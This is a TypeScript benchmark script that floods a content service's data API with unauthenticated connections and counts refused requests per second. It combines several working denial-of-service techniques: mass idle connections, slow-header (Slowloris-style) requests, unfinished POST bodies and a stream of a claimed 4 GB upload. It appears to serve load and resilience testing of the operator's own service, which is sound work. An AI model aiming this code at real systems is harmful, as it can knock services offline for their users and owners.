import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

// Attacks a content service without a credential, with all attacks at once:
// `node bench/siege-attacks.ts URL SECONDS`. Prints how many requests were refused in each second.
// `siege.ts` runs it in a process of its own.

const [, , service = '', seconds] = process.argv;
const { host, hostname, port } = new URL(service);
const api = '/v2025-02-19/data';
const start = (line: string) => `${line} HTTP/1.1\r\nHost: ${host}\r\n`;
const posting = (length: number) =>
  `${start(`POST ${api}/mutate/production`)}Content-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
const query = `${start(`GET ${api}/query/production?query=*`)}\r\n`;
const part = Buffer.alloc(1_000_000, ' ');

hold(2000, '');
hold(400, `${start('GET /')}X-Slow: `);
hold(400, `${posting(1000)}{`);
hold(20, posting(4_000_000_000), send);
console.log(await refusals(10_000, Number(seconds) * 1000));
process.exit();

/** Keeps `count` connections open that send `text`, and replaces those that are closed. */
function hold(count: number, text: string, then: (socket: Socket) => void = () => {}): void {
  for (let index = 0; index < count; index += 1) open();

  function open(): void {
    const socket = connect({ host: hostname, port: Number(port) }, () => {
      socket.write(text);
      then(socket);
    });
    socket.resume().on('error', () => {});
    socket.on('close', () => setTimeout(open, 100));
  }
}

/** Sends bytes as fast as the other end takes them. */
function send(socket: Socket): void {
  socket.write(part, (error) => error || send(socket));
}

/**
 * Sends `rate` requests a second for `time` ms on 20 connections, many at once and as long as their answers
 * come. Returns how many were refused in each second.
 */
async function refusals(rate: number, time: number): Promise<number> {
  let asked = 0;
  let refused = 0;
  const sockets = Array.from({ length: 20 }, () => {
    const socket = connect({ host: hostname, port: Number(port) });
    let rest = '';
    socket.on('error', () => {});
    socket.on('data', (data) => {
      const text = rest + data;
      refused += text.match(/HTTP\/1\.1 401/g)?.length ?? 0;
      rest = text.slice(-11);
    });
    return socket;
  });
  const begun = performance.now();
  for (let passed = 0; passed < time; passed = performance.now() - begun) {
    await wait(10);
    const due = (passed / 1000) * rate - asked;
    const count = Math.floor(Math.min(due, rate - (asked - refused)) / sockets.length);
    if (count < 1) continue;
    for (const socket of sockets) socket.write(query.repeat(count));
    asked += count * sockets.length;
  }
  return refused / (time / 1000);
}
